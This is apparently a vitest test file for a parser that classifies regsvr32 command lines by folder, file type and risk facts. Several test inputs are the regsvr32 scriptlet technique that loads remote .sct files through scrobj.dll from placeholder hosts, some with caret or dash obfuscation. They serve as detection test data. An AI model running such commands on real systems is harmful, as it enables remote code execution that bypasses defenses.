import { describe, expect, test } from 'vitest'
import { readToolUse } from './read-tool-use'

describe('regsvr32', () => {
  test.each([
    [
      'regsvr32 /s C:\\Windows\\System32\\msxml3.dll',
      'regsvr32 /s <system>\\msxml3.dll',
      'regsvr32|register|system|dll',
      [],
      'msxml3.dll',
    ],
    [
      'regsvr32.exe -s -u "C:\\Program Files\\Vendor\\shell ext.dll"',
      'regsvr32 /s /u <program-files>\\vendor\\shell ext.dll',
      'regsvr32|unregister|program-files|dll',
      [],
      'shell ext.dll',
    ],
    [
      'regsvr32 /s /u /i:http://10.2.3.4:8080/a/b.sct scrobj.dll',
      'regsvr32 /s /u /i:http://<ip>:<n>/*.sct <system>\\scrobj.dll',
      'regsvr32|scriptlet|url|sct',
      ['scriptlet', 'remote-url', 'address-host'],
      'scrobj.dll',
    ],
    [
      'regsvr32 /s /n /u /i:https://cdn.example.com/x.png C:\\Windows\\System32\\scrobj.dll',
      'regsvr32 /s /n /u /i:https://cdn.example.com/*.png <system>\\scrobj.dll',
      'regsvr32|scriptlet|url|png',
      ['scriptlet', 'remote-url'],
      'scrobj.dll',
    ],
    [
      'regsvr32 /s/n/u/i:\\\\srv\\share\\b.sct scrobj.dll',
      'regsvr32 /s /n /u /i:<unc>\\srv\\share\\b.sct <system>\\scrobj.dll',
      'regsvr32|scriptlet|unc|sct',
      ['scriptlet', 'intranet-share'],
      'scrobj.dll',
    ],
    [
      'REGSVR32.EXE /S /N /I:"C:\\Users\\ann\\Downloads\\b.sct" SCROBJ',
      'regsvr32 /s /n /i:<downloads>\\*.sct <system>\\scrobj.dll',
      'regsvr32|scriptlet|downloads|sct',
      ['scriptlet', 'downloads'],
      'scrobj.dll',
    ],
    [
      '/u /s /i:https://example.com/calc.sct scrobj.dll',
      'regsvr32 /u /s /i:https://example.com/*.sct <system>\\scrobj.dll',
      'regsvr32|scriptlet|url|sct',
      ['scriptlet', 'remote-url'],
      'scrobj.dll',
    ],
    [
      'regsvr32 –s –i:http://example.com/b.sct scrobj.dll',
      'regsvr32 /s /i:http://example.com/*.sct <system>\\scrobj.dll',
      'regsvr32|scriptlet|url|sct',
      ['scriptlet', 'remote-url', 'obfuscated'],
      'scrobj.dll',
    ],
    [
      'regsvr32 /s C:\\Users\\Public\\a.jpg',
      'regsvr32 /s <public>\\a.jpg',
      'regsvr32|register|public|jpg',
      ['public-folder', 'odd-extension'],
      'a.jpg',
    ],
    [
      'regsvr32 /i:quiet /s C:\\ProgramData\\Vendor\\a.ocx',
      'regsvr32 /i:quiet /s <program-data>\\vendor\\a.ocx',
      'regsvr32|register-install|program-data|ocx',
      ['program-data-folder'],
      'a.ocx',
    ],
    [
      'regsvr32 /s %APPDATA%\\Vendor\\a.dll',
      'regsvr32 /s <roaming>\\vendor\\a.dll',
      'regsvr32|register|roaming|dll',
      ['user-folder'],
      'a.dll',
    ],
    ['regsvr32', 'regsvr32', 'regsvr32|none|-|-', ['no-arguments'], null],
    [
      'regsvr32 /s "\\\\?\\C:\\Windows\\Temp\\q1w2.dll"',
      'regsvr32 /s <temp>\\*.dll',
      'regsvr32|register|temp|dll',
      ['temp-folder'],
      'q1w2.dll',
    ],
    [
      'regsvr32 /s /n /u /i:h^t^t^p^:^/^/example.com/b.sct scrobj.dll',
      'regsvr32 /s /n /u /i:http://example.com/*.sct <system>\\scrobj.dll',
      'regsvr32|scriptlet|url|sct',
      ['scriptlet', 'remote-url', 'obfuscated'],
      'scrobj.dll',
    ],
  ])('%s', (line, pattern, shape, facts, hosted) => {
    expect(readToolUse('regsvr32.exe', line, 'C:\\Windows\\System32\\regsvr32.exe')).toMatchObject({
      pattern,
      shape,
      facts,
      hosted,
    })
  })
})
